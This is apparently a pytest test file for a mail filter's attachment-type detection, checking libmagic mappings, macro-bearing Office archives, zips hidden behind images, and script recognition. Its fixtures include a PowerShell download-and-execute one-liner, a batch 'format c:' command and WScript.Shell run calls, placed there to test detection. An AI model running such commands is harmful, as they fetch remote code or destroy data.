"""What files are found to be (B12.07, features 5.47, 7.07)."""

import lzma
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from mailcordon.unpack.decoding.file_types import DESCRIBED, FileTypes
from mailcordon.unpack.decoding.type_map import TypeRule, built_in_rules, types_of

Look = Callable[..., tuple[str, ...]]


@pytest.fixture(scope="module")
def file_types() -> FileTypes:
    return FileTypes()


@pytest.fixture
def look(file_types: FileTypes, tmp_path: Path) -> Look:
    def types(octets: bytes, name: str = "", declared_type: str = "") -> tuple[str, ...]:
        path = tmp_path / "p001"
        path.write_bytes(octets)
        return file_types.look(path, name, declared_type)[0]

    return types


def zipped(*names: str, first: tuple[str, bytes] | None = None) -> bytes:
    import io

    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        if first:
            archive.writestr(*first)
        for name in names:
            archive.writestr(name, b"content")
    return stream.getvalue()


@pytest.mark.parametrize(
    ("description", "types"),
    [
        ("PE32 executable (GUI) Intel 80386, for MS Windows", ("exe", "exe-ms")),
        ("PE32+ executable (DLL) (GUI) x86-64, for MS Windows", ("exe", "exe-ms")),
        ("MS-DOS executable, NE for MS Windows 3.x", ("exe", "exe-ms")),
        ("MS-DOS executable", ("exe", "exe-ms")),
        ("ELF 64-bit LSB pie executable, x86-64", ("exe", "exe-unix")),
        ("DOS executable (COM)", ("asc",)),
        ("DOS executable (COM), start instruction 0xe9", ("asc",)),
        ("COM executable for DOS", ("asc",)),
        ("COM executable for MS-DOS", ("asc",)),
        ("JPEG image data, JFIF standard 1.01", ("image", "jpg")),
        ("ASCII text, with CRLF line terminators", ("asc",)),
        ("UTF-8 Unicode text", ("txt",)),
        ("Unicode text, UTF-8 text", ("txt",)),
        ("ISO-8859 text", ("txt",)),
        ("HTML document, ASCII text", ("html",)),
        ("news or mail, ASCII text", ("txt",)),
        ("DOS batch file, ASCII text", ("txt", "bat")),
        ("Zip archive data, at least v2.0 to extract", ("zip",)),
        ("Microsoft Word 2007+", ("zip",)),
        ("Microsoft OOXML", ("zip",)),
        ("Java archive data (JAR)", ("zip", "jar")),
        ("Composite Document File V2 Document, Little Endian", ("doc",)),
        ("RAR archive data, v5", ("rar",)),
        ("POSIX tar archive (GNU)", ("tar",)),
        ("tar archive", ("tar",)),
        ("ASCII cpio archive (SVR4 with no CRC)", ("cpio",)),
        ('LHa (2.x) archive data [lh5], with "clam.exe"', ("lha",)),
        ("LHarc 1.x/ARX archive data  [lh0]", ("lha",)),
        ("current ar archive", ("a",)),
        ("Debian binary package (format 2.0), with control.tar.xz", ("deb",)),
        ("RPM v3.0 bin i386/x86_64", ("rpm",)),
        ("ISO 9660 CD-ROM filesystem data 'CDROM'", ("iso",)),
        ("compress'd data 16 bits", ("Z",)),
        ("frozen file 2.1", ("F",)),
        ("MS Windows shortcut, Item id list present", ("lnk",)),
        ("data", ("dat",)),
        ("something nobody has heard of", ("dat",)),
    ],
)
def test_description_gives_types(description: str, types: tuple[str, ...]) -> None:
    """B12.07, features 5.08, 7.07: the first rule that matches decides; programs without header are no programs."""
    assert types_of(description, built_in_rules()) == types


def test_own_rules_come_first(tmp_path: Path) -> None:
    """features 5.47: the table can be extended."""
    path = tmp_path / "p001"
    path.write_bytes(b"GIF89a" + bytes(20))
    own = FileTypes([TypeRule(re.compile(r"^GIF"), ("image", "moving"))])
    assert own.look(path, "", "")[0] == ("image", "moving")


@pytest.mark.parametrize(
    ("names", "types"),
    [
        (("a.txt",), ("zip",)),
        (("[Content_Types].xml", "word/document.xml"), ("zip", "docx")),
        (("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"), ("zip", "docm", "macro")),
        (("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"), ("zip", "xlsm", "macro")),
        (("[Content_Types].xml", "ppt/presentation.xml"), ("zip", "pptx")),
        (("META-INF/MANIFEST.MF", "A.class"), ("zip", "jar")),
        (("AndroidManifest.xml", "META-INF/MANIFEST.MF", "classes.dex"), ("zip", "apk")),
        (("doc.kml",), ("zip", "kmz")),
    ],
)
def test_zip_files_are_told_apart_by_their_members(look: Look, names: tuple[str, ...], types: tuple[str, ...]) -> None:
    assert set(look(zipped(*names))) == set(types)


def test_open_document(look: Look) -> None:
    mimetype = ("mimetype", b"application/vnd.oasis.opendocument.text")
    assert set(look(zipped("content.xml", first=mimetype))) == {"zip", "odt"}
    assert set(look(zipped("content.xml", "Basic/script-lc.xml", first=mimetype))) == {"zip", "odt", "macro"}


def test_lzma_is_known_by_its_name_alone(look: Look) -> None:
    """Where the dictionary has a size that libmagic does not expect."""
    octets = lzma.compress(
        b"x" * 100, lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "lc": 1, "lp": 1, "pb": 1}]
    )
    assert look(octets, "x.bin") == ("dat",)
    assert look(octets, "x.LZMA") == ("dat", "lzma")


def test_zip_behind_a_picture_is_seen(look: Look) -> None:
    """Programs go by the end of a zip file, whatever stands in front."""
    assert set(look(b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(40) + zipped("evil.exe"))) >= {"image", "zip"}


@pytest.mark.parametrize(
    ("octets", "name", "declared_type", "kind"),
    [
        (b"var a = 1;\nalert(a);\n", "invoice.js", "", "js"),
        (b"var a = 1;\nalert(a);\n", "", "application/javascript", "js"),
        (b"var s = new ActiveXObject('WScript.Shell'); s.Run('x');", "", "", "js"),
        (b'Set s = CreateObject("WScript.Shell")\ns.Run "x"\n', "", "", "vbs"),
        ('\ufeffSet s = CreateObject("WScript.Shell")\ns.Run "x"\n'.encode("utf-16-le"), "", "", "vbs"),
        (b"MsgBox 1\n", "a.VBS", "", "vbs"),
        (b"MsgBox 1\n", "a.vbs.  ", "", "vbs"),
        (b"#@~^DgAAAA==\\ko$K6,FZ*AAA==^#~@", "", "", "vbs"),
        (b"<html><head><HTA:APPLICATION ID='x'></head></html>", "", "", "hta"),
        (b"<html><body>x</body></html>", "a.hta", "", "hta"),
        (b"<job id='a'>\n<script language='JScript'>x()</script></job>", "", "", "wsf"),
        (b"$c = New-Object Net.WebClient\nIEX ($c.DownloadString('http://a'))\n", "", "", "ps1"),
        (b"Write-Host 1\n", "a.ps1", "", "ps1"),
        (b"@echo off\r\nformat c:\r\n", "", "", "bat"),
        (b"dir\r\n", "a.cmd", "", "bat"),
        (b"[InternetShortcut]\r\nURL=file://host/share/a.exe\r\n", "", "", "url"),
        (bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64), "", "", "one"),
        (bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(80), "", "", "lnk"),
    ],
)
def test_script_is_recognised(look: Look, octets: bytes, name: str, declared_type: str, kind: str) -> None:
    """features 7.07 and issue: what runs when it is opened is told apart from text."""
    assert kind in look(octets, name, declared_type)


@pytest.mark.parametrize(
    ("octets", "name", "declared_type"),
    [
        (b'Put Set s = CreateObject("WScript.Shell") on top.\n', "", "text/plain"),
        (b'Hello,\n\nSet s = CreateObject("X")\n\nworks.\n', "notes.txt", "text/plain"),
        (b"You may use new ActiveXObject('x') here.\n", "", "text/plain"),
        (b"Say @echo off in the first line.\n", "", ""),
        (b"begin 644 clam.exe\nis how such a file begins, and this is none.\n", "", "text/plain"),
        (b"VGhpcyBpcyBiYXNlNjQgb2Ygc29tZXRoaW5nIHRoYXQgaXMgbm8gYXR0YWNobWVudC4=\n" * 4, "", "text/plain"),
        ("Grüße aus Köln\n".encode(), "", "text/plain"),
        ("Grüße aus Köln\n".encode("latin-1"), "", "text/plain"),
    ],
)
def test_text_stays_text(look: Look, octets: bytes, name: str, declared_type: str) -> None:
    """features 7.05, 7.06, 7.07: what only resembles a script or encoded data is a text."""
    assert look(octets, name, declared_type) in {("asc",), ("txt",)}


def test_text_that_libmagic_takes_for_a_program_is_not_one(look: Look) -> None:
    """features 7.07: 0xE9 in front makes libmagic say COM executable; in ISO 8859-1 it is an accented letter."""
    types = look("étéetc. un texte, rien de plus.\n".encode("latin-1"))
    assert "exe" not in types


def test_a_disc_is_known_by_what_lies_far_down(look: Look) -> None:
    """B12.07: of large files libmagic reads the beginning only."""
    descriptor = b"\1CD001\1\0"
    assert "iso" in look(bytes(0x8000) + descriptor + bytes(500_000))
    assert "iso" not in look(bytes(DESCRIBED) + bytes(0x8000) + descriptor + bytes(500_000))
